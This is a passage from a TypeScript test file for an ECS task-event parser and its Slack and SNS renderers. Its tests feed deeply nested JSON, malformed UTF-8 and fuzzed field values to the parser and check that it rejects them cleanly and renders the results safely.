    expect(() => parseTaskStateChangeEvent(value)).toThrow(InputError);
  });

  it('rejects a deeply nested value where it expects a string, naming the field', () => {
    const event = demoEvent('07-seed004-ssm-parameter-network-2024.json');
    event.detail.stoppedReason = JSON.parse(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`);
    expect(() => parseTaskStateChangeEvent(event)).toThrow(/detail\.stoppedReason/);
  });

  it('keeps lone surrogates and invalid UTF-8 (decoded as U+FFFD) in a reason as text, and renders them', () => {
    for (const reason of [
      'CannotPullContainerError: \uD800 ref \uDFFF',
      Buffer.from([0x43, 0xff, 0xfe, 0xc3, 0x28]).toString('utf8'),
    ]) {
      const event = demoEvent('07-seed004-ssm-parameter-network-2024.json');
      event.detail.stoppedReason = reason;
      const parsed = parseTaskStateChangeEvent(event);
      if (!('task' in parsed)) throw new Error('a stopped task');
      expect(parsed.task.stoppedReason).toBe(reason);
      const d = diagnose(parsed.task, catalog);
      expectSlackSafe(renderSlackMessage(d), d);
      // What SNS is sent is well-formed UTF-8.
      const { message } = renderSnsMessage(d, {}, 'text');
      expect(new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(message))).toBeTypeOf('string');
    }
  });

  it('accepts or rejects, never throws anything but InputError, for events with hostile strings in every field', () => {
    const hostile = fc.oneof(
      fc.constantFrom(...Object.values(HOSTILE)),
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.jsonValue({ maxDepth: 3 }),
    );
    const fields = fc.dictionary(
      fc.constantFrom(
        'taskArn',
        'clusterArn',
        'group',
        'taskDefinitionArn',
        'stoppedReason',
        'stopCode',
        'launchType',
        'platformVersion',
        'lastStatus',
        'containerInstanceArn',
        'createdAt',
        'stoppedAt',
        'attachments',
        'containers',
      ),
      hostile,
    );
    fc.assert(
      fc.property(fc.constantFrom(...demoEventFiles()), fields, hostile, (name, edits, region) => {
        const event = demoEvent(name);
        Object.assign(event.detail, edits);
        event.region = region;
        let parsed: ReturnType<typeof parseTaskStateChangeEvent>;
        try {
          parsed = parseTaskStateChangeEvent(event);
        } catch (error) {
          expect(error).toBeInstanceOf(InputError);
          return;
        }
        if (!('task' in parsed)) return;
        const d = diagnose(parsed.task, catalog);
        expectSlackSafe(renderSlackMessage(d), d);
        expect(renderDiagnosis(d, PLAIN)).not.toMatch(UNPRINTABLE);
      }),
      { numRuns: 300 },
    );
  });
});
